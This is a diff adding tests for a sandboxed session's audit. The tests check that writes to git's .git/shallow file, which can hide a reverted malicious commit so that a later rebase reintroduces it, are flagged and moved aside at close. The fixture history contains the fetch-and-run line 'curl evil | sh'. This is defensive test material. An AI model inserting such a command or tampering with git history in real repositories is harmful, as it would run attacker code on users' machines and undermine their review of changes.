@@ -369,3 +369,86 @@ describe('state the audit cannot read all of, while git reads it whole: moved at
     expect(gitIn(ws, 'rev-parse', 'HEAD')).toBe(head);
   });
 });
+
+/**
+ * The person's repository at `ws` for the shallow list: app.sh on main, topic's X adds `curl evil | sh`, main merges
+ * topic and reverts the merge, topic gets Y; main checked out. The merge commit's id.
+ */
+function revertedHistory(ws: string): string {
+  gitIn(ws, 'init', '-q', '-b', 'main');
+  fs.writeFileSync(path.join(ws, 'app.sh'), 'echo app\n');
+  gitIn(ws, 'add', 'app.sh');
+  gitIn(ws, 'commit', '-qm', 'B');
+  gitIn(ws, 'checkout', '-qb', 'topic');
+  fs.writeFileSync(path.join(ws, 'app.sh'), 'echo app\ncurl evil | sh\n');
+  gitIn(ws, 'commit', '-qam', 'X');
+  gitIn(ws, 'checkout', '-q', 'main');
+  fs.writeFileSync(path.join(ws, 'other'), 'c\n');
+  gitIn(ws, 'add', 'other');
+  gitIn(ws, 'commit', '-qm', 'C');
+  gitIn(ws, 'merge', '-q', '--no-edit', 'topic');
+  const merge = gitIn(ws, 'rev-parse', 'HEAD');
+  gitIn(ws, 'revert', '--no-edit', '-m', '1', 'HEAD');
+  gitIn(ws, 'checkout', '-q', 'topic');
+  fs.writeFileSync(path.join(ws, 'y'), 'y\n');
+  gitIn(ws, 'add', 'y');
+  gitIn(ws, 'commit', '-qm', 'Y');
+  gitIn(ws, 'checkout', '-q', 'main');
+  return merge;
+}
+
+describe('the shallow list (.git/shallow: commits git takes for parentless)', () => {
+  test("the reverted merge listed by the session: named in the result, moved at close; the person's rebase replays only Y", async () => {
+    const ws = tempDir();
+    const merge = revertedHistory(ws);
+    const s = await startSession({ cwd: ws, workspace: ws });
+    const r = await s.run('git rev-list --merges -n 1 main > .git/shallow && echo planted');
+    expect(r.output).toContain('planted');
+    expect(r.output).toMatch(
+      new RegExp(`made the shallow list \\(${merge.slice(0, 12)}\\): git takes each commit it lists for one without parents`),
+    );
+    await s.close();
+    expect(atClose(s)).toMatch(/\.git\/shallow .*made the shallow list.*moved so that your git cuts no history on the session's word -> /);
+    expect(fs.existsSync(path.join(ws, '.git', 'shallow'))).toBe(false);
+    gitIn(ws, 'checkout', '-q', 'topic');
+    const reb = host(ws, 'rebase', 'main');
+    expect(reb.rc).toBe(0);
+    expect(fs.readFileSync(path.join(ws, 'app.sh'), 'utf8')).toBe('echo app\n');
+    expect(gitIn(ws, 'log', '--format=%s', 'main..topic')).toBe('Y');
+  });
+
+  test("a shallow clone's own list, there at the start and unchanged: left, not named; changed in a nested repository: named there and moved", async () => {
+    const src = tempDir();
+    revertedHistory(src);
+    const ws = tempDir();
+    gitIn(ws, 'clone', '-q', '--depth', '1', '--branch', 'main', `file://${src}`, '.');
+    const own = fs.readFileSync(path.join(ws, '.git', 'shallow'), 'utf8');
+    const sub = path.join(ws, 'sub');
+    fs.mkdirSync(sub);
+    const merge = revertedHistory(sub);
+    const s = await startSession({ cwd: ws, workspace: ws });
+    const r = await s.run(`echo ${merge} > sub/.git/shallow && git log --oneline | wc -l && echo made-it`);
+    expect(r.output).toContain('made-it');
+    expect(r.output).toMatch(/made the shallow list in the repository whose git dir is sub\/\.git/);
+    await s.close();
+    const said = atClose(s);
+    expect(said).toMatch(/sub\/\.git\/shallow .*in the repository whose git dir is sub\/\.git.*moved so that/);
+    expect(said.split('\n').filter((l) => l.includes('shallow') && !l.includes('sub/.git'))).toEqual([]);
+    expect(fs.readFileSync(path.join(ws, '.git', 'shallow'), 'utf8')).toBe(own);
+    expect(fs.existsSync(path.join(sub, '.git', 'shallow'))).toBe(false);
+    expect(host(ws, 'log', '--oneline').rc).toBe(0);
+    expect(gitIn(sub, 'log', '--format=%s', 'main')).toContain('X');
+  });
+
+  test("a shallow clone's list the session changed: moved at close, with the advice to put it back after a deepen", async () => {
+    const src = tempDir();
+    revertedHistory(src);
+    const ws = tempDir();
+    gitIn(ws, 'clone', '-q', '--depth', '1', '--branch', 'main', `file://${src}`, '.');
+    const s = await startSession({ cwd: ws, workspace: ws });
+    const r = await s.run('git rev-parse HEAD >> .git/shallow && echo made-it');
+    expect(r.output).toMatch(/changed the shallow list/);
+    await s.close();
+    expect(atClose(s)).toMatch(/changed the shallow list.*your clone was shallow at the start.*put it back -> /);
+  });
+});
